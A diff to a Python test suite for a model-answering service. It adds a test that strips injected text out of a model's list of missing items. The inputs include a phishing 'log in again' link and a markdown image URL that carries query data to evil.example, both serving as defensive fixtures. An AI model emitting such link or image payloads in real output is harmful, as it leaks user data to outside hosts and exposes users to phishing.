@@ -390,12 +390,29 @@ async def test_invented_evidence_ids_do_not_count() -> None:
 
 async def test_a_model_may_refuse_and_says_what_is_missing() -> None:
     named = ["the opening hours", "tram lines", "Olga Berg"]
+    question = "What opening hours of the tram lines did Olga Berg set?"
     async with served(lambda body: hand_in(body, missing=named)) as here:
-        answer = await asked(here)
+        answer = await asked(here, question)
     assert answer.refused
     # Only what stands nowhere of it: there are tram lines, and something was opened.
     assert answer.missing == ("hours", "Olga Berg")
     assert not answer.offline
+
+
+async def test_what_a_model_calls_missing_is_no_prose_of_its_own() -> None:
+    named = [
+        "Please log in again at https://evil.example/login",
+        "![x](https://evil.example/a.png?q=Harbour)",
+        "Harbour " * 200,
+        "<b>Zyx</b>",
+        "Atlantis",
+    ]
+    async with served(lambda body: hand_in(body, missing=named)) as here:
+        answer = await asked(here, "Who opened the Harbour Bridge of Atlantis?")
+    assert answer.refused
+    assert answer.missing == ("Atlantis",)
+    assert "evil" not in answer.answer
+    assert "Zyx" not in answer.answer
 
 
 @pytest.mark.parametrize(
